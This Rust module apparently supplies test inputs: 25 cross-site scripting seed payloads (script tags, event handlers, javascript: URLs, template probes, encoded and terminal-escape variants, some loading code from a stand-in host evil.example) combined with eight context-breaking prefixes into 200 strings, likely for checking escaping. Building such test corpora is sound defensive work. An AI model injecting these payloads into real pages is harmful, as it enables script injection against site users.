//! Two hundred texts that would be a script if a page took them for markup.

/// What a page would do with them: raise a dialog, set a mark, make a node.
const SEEDS: [&str; 25] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.injected=true</script>'></iframe>",
    "<a href=\"javascript:alert(1)\" id=injected>click</a>",
    "<form action=//evil.example><input name=q></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<body onload=alert(1)>",
    "<div data-injected onclick=alert(1)>x</div>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}${alert(1)}#{alert(1)}<%= alert(1) %>",
    "<template><script>alert(1)</script></template>",
    "\u{202e}<script>alert(1)</script>\u{202c}",
    "<ScRiPt\u{b}>alert(1)</sCrIpT>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{1b}]8;;javascript:alert(1)\u{7}link\u{1b}]8;;\u{7}\u{1b}]52;c;Y29weQ==\u{7}<img src=x onerror=alert(1)>",
];

/// How they break out of where they stand.
const BREAKS: [(&str, &str); 8] = [
    ("", ""),
    ("\">", ""),
    ("'>", ""),
    ("</pre></textarea></title></style></script>", ""),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
    ("\" onmouseover=\"alert(1)\" x=\"", "\""),
    ("\\\"};alert(1);//", ""),
];

/// All of them.
pub(crate) fn all() -> Vec<String> {
    let with = |seed: &str| {
        BREAKS.iter().map(|(before, after)| format!("{before}{seed}{after}")).collect::<Vec<_>>()
    };
    SEEDS.iter().flat_map(|seed| with(seed)).collect()
}
